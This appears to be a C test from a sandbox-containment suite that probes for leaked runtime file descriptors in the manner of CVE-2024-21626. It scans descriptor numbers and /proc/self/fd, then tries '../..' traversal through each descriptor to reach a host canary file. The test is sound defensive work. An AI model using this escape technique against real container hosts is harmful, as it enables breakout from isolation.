/* tries: find descriptors of the runtime that were left open: F_GETFD over 3..65535, /proc/self/fd,
   and openat(N, "../../..") through each, the working directory and the standard streams */
/* must fail because: guest processes start with descriptors of the sentry's own table, 0 to 2 only;
   a standard stream is a stream, not a directory to walk from */
/* an escape would: hold a descriptor above 2 at start, or read the canary file through one of them
   (CVE-2024-21626) */
/* source: ATTACKS.md F2 */
#include <dirent.h>

#include "tricks.h"

static const char *const up[] = {"",         ".", "..", "../..", "../../../../../../../../../..",
                                 "/../../.."};

static int walk_from(int fd, const char *file)
{
    char path[8192];
    for (int i = 0; i < COUNT(up); i++) {
        if (reach_by(fd, up[i], file) == 1)
            return 1;
        snprintf(path, sizeof(path), "/proc/self/fd/%d/%s", fd, up[i]);
        if (reach_by(AT_FDCWD, path, file) == 1)
            return 1;
        if (chdir(path) == 0 && reach_by(AT_FDCWD, ".", file) == 1)
            return 1;
    }
    return 0;
}

static int attack(void)
{
    const char *file = fact("host_file");
    if (!file)
        return cannot("no host_file was given");
    int found = 0;
    char link[64], target[512];
    for (int fd = 0; fd < 65536; fd++) {
        if (fcntl(fd, F_GETFD) < 0)
            continue;
        snprintf(link, sizeof(link), "/proc/self/fd/%d", fd);
        ssize_t n = readlink(link, target, sizeof(target));
        step("descriptor %d: %.*s", fd, (int)(n < 0 ? 0 : n), target);
        if (walk_from(fd, file))
            return escaped("descriptor %d leads to the canary", fd);
        found += fd > 2;
    }
    DIR *d = opendir("/proc/self/fd");
    for (struct dirent *e; d && (e = readdir(d));)
        if (e->d_name[0] != '.' && atoi(e->d_name) > 2 && atoi(e->d_name) != dirfd(d))
            found++;
    if (found)
        return escaped("%d descriptors above 2 at start", found);
    if (walk_from(AT_FDCWD, file))
        return escaped("the working directory leads to the canary");
    for (int fd = 0; fd < 3; fd++) {
        int dir = openat(fd, "..", O_RDONLY | O_DIRECTORY);
        if (dir >= 0)
            return escaped("descriptor %d is a directory", fd);
    }
    return contained("only 0, 1 and 2 are open, none is a way out");
}

static int twin(void)
{
    int dir = open("/", O_RDONLY | O_DIRECTORY);
    int fd = openat(dir, "../../proc/self/fd/../../self/status", O_RDONLY);
    if (dir < 3 || fd < 0)
        return broken("openat from a directory: %s", err_name(errno));
    if (fcntl(dir, F_GETFD) != 0 || fcntl(99, F_GETFD) != -1 || errno != EBADF)
        return broken("F_GETFD does not tell open from closed");
    return works("descriptors that the program opened itself work, closed ones are EBADF");
}

int main(int argc, char **argv)
{
    return attack_main(argc, argv, attack, twin);
}
